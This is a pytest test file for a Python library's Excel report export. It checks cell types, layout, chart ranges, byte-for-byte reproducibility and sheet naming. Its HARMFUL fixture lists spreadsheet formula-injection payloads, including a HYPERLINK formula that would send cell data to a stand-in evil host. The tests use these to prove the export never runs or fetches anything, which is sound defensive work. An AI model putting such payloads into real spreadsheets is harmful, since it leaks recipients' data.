"""The report as an Excel file, read back by another library: every value with its type, and nothing that is run or fetched."""

import io
import re
import zipfile
from datetime import UTC, date, datetime
from typing import Any

import pytest
import time_machine
from openpyxl import load_workbook
from openpyxl.utils import range_boundaries

from fritids.outside.documents.chart_tables import as_table, table_of
from fritids.outside.documents.model import (
    Chart,
    ChartKind,
    Column,
    Definition,
    Document,
    Form,
    Gap,
    Paragraph,
    Section,
    Series,
    Table,
    Value,
)
from fritids.outside.documents.values import NO_FIGURE_SIGN, WITHHELD_SIGN
from fritids.outside.documents.xlsx import xlsx
from fritids.outside.documents.xlsx_names import sheet_names
from tests.report_document import a_report

HARMFUL = (
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "@SUM(1+1)", "+1+1", "-1+1", "{=1+1}", "=Sheet1!$A$1", "http://evil.example",
    "mailto:x@evil.example", "internal:A1", "0123456789", "1e5", "_x0041_", "<b>&amp;", "å" * 40_000, "TRUE", "#N/A", "2026-02-16",
)  # fmt: skip
NUMBERS = {Form.INTEGER: "#,##0", Form.DECIMAL: "#,##0.0", Form.PERCENT: "0%"}


def opened(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data), rich_text=False)


def tables(document: Document) -> list[Table]:
    """All tables, and those that charts without one bring with them."""
    blocks = [block for section in document.sections for block in section.blocks]
    alone = [
        as_table(block) for block in blocks if isinstance(block, Chart) and table_of(block, document) is None
    ]
    return [block for block in blocks if isinstance(block, Table)] + alone


def cells_of(book: Any, table: Table) -> list[list[Any]]:
    """The cells under the table's title and header, wherever they stand."""
    for sheet in book:
        for row in sheet.iter_rows(max_col=1):
            if row[0].value == table.title:
                for header in (row[0].row + 1, row[0].row + 3):
                    found = [sheet.cell(header, n + 1) for n in range(len(table.columns))]
                    if [cell.value for cell in found] == [column.title for column in table.columns]:
                        last = header + len(table.rows) + (table.total is not None)
                        return [
                            list(each) for each in sheet.iter_rows(header + 1, last, 1, len(table.columns))
                        ]
    pytest.fail(f"no sheet has {table.title}")


def same(cell: Any, value: Value, form: Form) -> bool:
    match value:
        case Gap():
            sign = WITHHELD_SIGN if value is Gap.WITHHELD else NO_FIGURE_SIGN
            return bool(cell.data_type == "s" and cell.value == sign)
        case str():
            return bool(cell.value == (value or None) and cell.data_type in "sn")
        case date():
            return bool(cell.is_date and cell.value.date() == value)
        case _:
            return bool(cell.data_type == "n" and cell.value == value and cell.number_format == NUMBERS[form])


@pytest.mark.parametrize("language", ["sv", "en"])
def test_every_value_is_there_with_its_type(language: str) -> None:
    document = a_report(language)
    book = opened(xlsx(document))
    for table in tables(document):
        cells = cells_of(book, table)
        wanted = [*table.rows, *([table.total] if table.total else [])]
        assert len(cells) == len(wanted)
        for row, values in zip(cells, wanted, strict=True):
            for cell, value, column in zip(row, values, table.columns, strict=True):
                assert same(cell, value, column.form), (table.key, cell.coordinate, cell.value, value)
    texts = {cell.value for sheet in book for row in sheet.iter_rows() for cell in row}
    said = {
        document.title,
        document.subtitle,
        document.withheld_note,
        *(each for fact in document.facts for each in fact),
    }
    said |= {
        block.text
        for section in document.sections
        for block in section.blocks
        if isinstance(block, Paragraph)
    }
    said |= {each for one in document.definitions for each in (one.term, one.text)}
    said |= {
        block.note
        for section in document.sections
        for block in section.blocks
        if isinstance(block, Chart) and block.note
    }
    assert said <= texts
    assert (book.properties.title, book.properties.creator) == (document.title, document.author)


def test_where_a_figure_is_withheld_the_sheet_says_what_the_sign_means() -> None:
    book = opened(xlsx(a_report("sv")))
    for sheet in book:
        texts = [cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
        explained = any(WITHHELD_SIGN in text and text != WITHHELD_SIGN for text in texts)
        assert explained or WITHHELD_SIGN not in texts, sheet.title


def test_header_filter_and_print_are_set() -> None:
    """The header stays in sight and stands on each page; a long table can be filtered, and its total is not sorted away."""
    book = opened(xlsx(a_report("sv")))
    months, types = book["Utlån per månad"], book["Utlån per artikeltyp"]
    for sheet in (months, types):
        assert sheet.freeze_panes == "B5"
        assert sheet.print_title_rows == "$4:$4"
        # A chart is never cut in two (one page, which is what no number means); a table that has none goes on on the next page.
        assert (sheet.page_setup.orientation, sheet.page_setup.fitToHeight) == ("landscape", None)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert book["Stängda dagar"].page_setup.fitToHeight == 0
    assert types.auto_filter.ref == "A4:C20"
    assert types["A21"].value == "Alla"
    assert months.auto_filter.ref is None
    assert months.column_dimensions["A"].width >= len("september") + 1
    assert [
        link.location
        for row in book["Översikt"].iter_rows(max_col=1)
        for cell in row
        if (link := cell.hyperlink)
    ] == [f"'{name}'!A1" for name in book.sheetnames[1:]]


def test_charts_draw_the_cells_of_their_table() -> None:
    document = a_report("sv")
    data = xlsx(document)
    book = opened(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        drawn = [
            archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/charts/chart")
        ]
    charts = [block for section in document.sections for block in section.blocks if isinstance(block, Chart)]
    assert len(drawn) == len(charts)
    for chart in charts:
        (text,) = (each for each in drawn if f"<a:t>{chart.title}</a:t>" in each)
        assert f"<a:t>{chart.category_title}</a:t>" in text
        assert f"<a:t>{chart.value_title}</a:t>" in text
        places = re.findall(r"<c:f>'([^']+)'!([$A-Z0-9:]+)</c:f>", text)
        assert len(places) == 2 * len(chart.series)
        read = []
        for name, place in places:
            left, top, right, bottom = range_boundaries(place)
            read.append(
                [cell.value for row in book[name].iter_rows(top, bottom, left, right) for cell in row]
            )
        for series, names, values in zip(chart.series, read[::2], read[1::2], strict=True):
            assert tuple(names) == chart.categories
            assert tuple(None if value == NO_FIGURE_SIGN else value for value in values) == series.values


def test_the_same_report_gives_the_same_bytes_whenever_it_is_made() -> None:
    with time_machine.travel(datetime(2026, 1, 2, 3, 4, tzinfo=UTC)):
        first = xlsx(a_report("sv"))
    with time_machine.travel(datetime(2031, 7, 8, 9, 10, tzinfo=UTC)):
        again = xlsx(a_report("sv"))
    assert first == again
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {part.date_time for part in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert b"2026-01-02" not in archive.read("docProps/core.xml")


def harmful() -> Document:
    """A report whose every text would like to be something else."""
    first = HARMFUL[0]
    table = Table(
        "t", first, (Column("a", first, Form.TEXT), Column("b", HARMFUL[5])),
        tuple((text, n) for n, text in enumerate(HARMFUL)), (first, 3), first,
    )  # fmt: skip
    again = Table(
        "u", first, (Column("a", "\x01=1\x00+1\ufffe\ud800", Form.TEXT),), (("\x1b[31m=1+1\u202e",),)
    )
    names = [
        Table(f"n{n}", title, (Column("a", "a", Form.TEXT),), ())
        for n, title in enumerate(("[a]:*?/\\", "'", "History", ""))
    ]
    chart = Chart(
        "c",
        HARMFUL[5],
        ChartKind.BARS,
        HARMFUL[5],
        HARMFUL[5],
        HARMFUL[:2],
        (Series(HARMFUL[5], (1.0, None)),) * 2,
    )
    return Document(
        first, first, first, "sv", first, ((first, first),),
        (Section("s", first, (Paragraph(first), chart)), Section("s", "&C&A" * 90, (table, again, *names, Paragraph(first)))),
        (Definition(first, first, first),), first, first,
    )  # fmt: skip


@pytest.mark.parametrize("document", [harmful(), a_report("en")], ids=["harmful", "usual"])
def test_nothing_is_run_or_fetched(document: Document) -> None:
    data = xlsx(document)
    book = opened(data)
    for row in (row for sheet in book for row in sheet.iter_rows()):
        assert not [cell for cell in row if cell.data_type not in "snd"]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode()
            assert "TargetMode" not in text, name
            assert "externalLink" not in name
            if name.startswith("xl/worksheets/"):
                assert "<f" not in text, name
            for place in re.findall(r"<c:f>(.*?)</c:f>", text):
                sheet, _, cells = place.rpartition("!")
                assert sheet.strip("'") in book.sheetnames
                assert re.fullmatch(r"\$[A-Z]\$\d+:\$[A-Z]\$\d+", cells), place


def test_harmful_texts_are_read_as_they_were_written() -> None:
    book = opened(xlsx(harmful()))
    sheet = next(each for each in book if each["B5"].value == 0)
    assert [sheet.cell(5 + n, 1).value for n in range(len(HARMFUL))] == [text[:32_767] for text in HARMFUL]
    assert book[book.sheetnames[3]]["A5"].value == "[31m=1+1"
    assert "History" not in book.sheetnames


def test_names_of_sheets_are_legal_and_told_apart() -> None:
    long = "Utlån per månad och artikelkategori, hela året"
    names = sheet_names([long, long, "[a]:*?/\\", "'x'", "History", "", "ÅR", "år", "😀" * 20])
    assert names[:4] == ["Utlån per månad och…", "Utlån per månad och… (2)", "a", "x"]
    assert len({name.lower() for name in names}) == len(names)
    assert all(0 < len(name.encode("utf-16-le")) // 2 <= 31 for name in names)
    assert "history" not in {name.lower() for name in names}
